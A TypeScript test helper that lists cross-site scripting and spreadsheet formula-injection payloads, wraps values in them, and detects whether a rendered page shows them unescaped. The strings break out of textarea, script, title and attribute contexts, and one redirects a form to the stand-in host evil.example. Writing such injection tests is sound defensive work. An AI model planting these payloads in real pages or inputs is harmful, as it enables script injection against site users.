/**
 * What somebody types who means harm. The beginning is a formula to a spreadsheet; the end leaves each place of a page
 * that holds text, and leaves `x-xss` in the page where it does, whether or not anything runs. Short enough for the
 * shortest field.
 */
const pairs = [
  ['=1+1|', `'"></textarea><img x-xss src=x onerror=__xss=1>`],
  ['@SUM(1)|', '</script><script x-xss>__xss=1</script>'],
  ['+', '" x-xss onfocus=__xss=1 autofocus x="'],
  ['-2+3|', '</title><svg x-xss onload=__xss=1>'],
  ['', `'><iframe x-xss src=javascript:top.__xss=1>`],
  ['', '--><form x-xss action=//evil.example>'],
] as const

export const payloads: readonly string[] = pairs.map(([, end]) => end)

/** Puts the next pair around each value. */
export const dressing = () => {
  let count = 0
  return (value: string): string => {
    const [begin, end] = pairs[count++ % pairs.length] ?? ['', '']
    return `${begin}${value}${end}`
  }
}

/** One of them as markup. What is escaped has no `<` and no `"` of its own, so this is never found in it. */
const raw = /<[a-z]+ x-xss|" x-xss /

export const isRaw = (html: string): boolean => raw.test(html)

/** One of them as text. */
export const isShown = (html: string): boolean => html.includes('x-xss')
